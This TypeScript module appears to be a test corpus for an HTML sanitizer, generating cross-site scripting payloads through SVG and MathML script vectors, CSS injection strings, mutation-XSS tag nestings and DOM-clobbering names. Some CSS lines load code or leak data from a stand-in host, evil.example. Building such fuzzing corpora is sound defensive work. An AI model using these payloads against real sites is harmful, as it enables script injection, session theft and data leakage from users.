// Foreign content: SVG, MathML and style sheets, and markup that turns into other markup when it is parsed twice.

import { vectors } from "./markup.ts";

const drawings = [
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=data:,alert(1) /></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>fire</text></a></svg>",
  "<svg><set attributeName=onmouseover to=alert(1)></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></foreignObject></svg>",
  "<svg><image href=//evil.example/a.png onload=alert(1)></svg>",
  "<svg><discard onbegin=alert(1)></svg>",
  "<svg><handler type=text/javascript>alert(1)</handler></svg>",
  "<svg xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href='javascript:alert(1)'><rect width=100 height=100 /></a></svg>",
  "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "<math href=javascript:alert(1)>fire</math>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
];

const styles = [
  "background:url(javascript:alert(1))",
  "background:url(//evil.example/a.png)",
  "width:expression(alert(1))",
  "behavior:url(//evil.example/a.htc)",
  "-moz-binding:url(//evil.example/a.xml#x)",
  "position:fixed;inset:0;z-index:9999;opacity:0",
  "animation:x 1s;}@keyframes x{}",
  "font-family:'\\22onload=alert(1)//",
  "color:red;}*{background:url(//evil.example/?leak)}",
  "@import url(//evil.example/a.css);",
  "x{}</style><script>alert(1)</script>",
  "content:attr(data-x);unicode-bidi:bidi-override;direction:rtl",
];

const styled: readonly ((rule: string) => string)[] = [
  (rule) => `<p style="${rule}">fire</p>`,
  (rule) => `<style>p{${rule}}</style>`,
  (rule) => `<link rel=stylesheet href="data:text/css,p{${rule}}">`,
  (rule) => `[fire]{style="${rule}"}`,
  (rule) => `" style="${rule}`,
];

/** Places where a parser changes from one language to another, and what it takes for text in one and for markup in the other. */
const outer = [
  "math",
  "svg",
  "form><math",
  "svg><desc",
  "table",
  "select",
  "noscript",
  "template",
  "xmp",
  "noembed",
  "noframes",
  "title",
  "textarea",
  "iframe",
];
const middle = [
  "mtext",
  "mi",
  "annotation-xml encoding=text/html",
  "foreignObject",
  "title",
  "desc",
  "mglyph",
  "style",
  "p",
  "xmp",
];
const inner = [
  "<style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
  "<style><img title='</style><img src=x onerror=alert(1)>'>",
  "<!--<img title='--><img src=x onerror=alert(1)>'>",
  "<a title='</noscript><img src=x onerror=alert(1)>'>",
  "<p id='</title><img src=x onerror=alert(1)>'>",
];

export function* foreignContent(): Iterable<string> {
  yield* drawings;
  for (const shape of styled) for (const rule of styles) yield shape(rule);
}

export function* mutations(): Iterable<string> {
  for (const first of outer)
    for (const second of middle) for (const last of inner) yield `<${first}><${second}>${last}`;
  for (const vector of vectors) {
    yield `<noscript><p title="</noscript>${vector}">`;
    yield `<svg></p><style><a id="</style>${vector}">`;
    yield `&lt;${vector.slice(1)}`;
    yield `<![CDATA[${vector}]]>`;
    yield `<?${vector}?>`;
  }
}

const names =
  "alert attributes body children cookie createElement currentScript document domain firstChild forms getElementById head history length location name nodeName parentNode querySelector referrer self submit top value window __proto__ constructor hasOwnProperty toString main comments address reactions share write comment-1 search".split(
    " ",
  );

/** Names with which an element stands in for what a script asks the document for. */
export function* clobbering(): Iterable<string> {
  for (const name of names) {
    yield `<a id=${name}>fire</a><a id=${name} name=x href="javascript:alert(1)">`;
    yield `<form id=${name}><input name=${name}><img name=${name}></form>`;
    yield `# ${name} {#${name} name=${name}}`;
  }
}
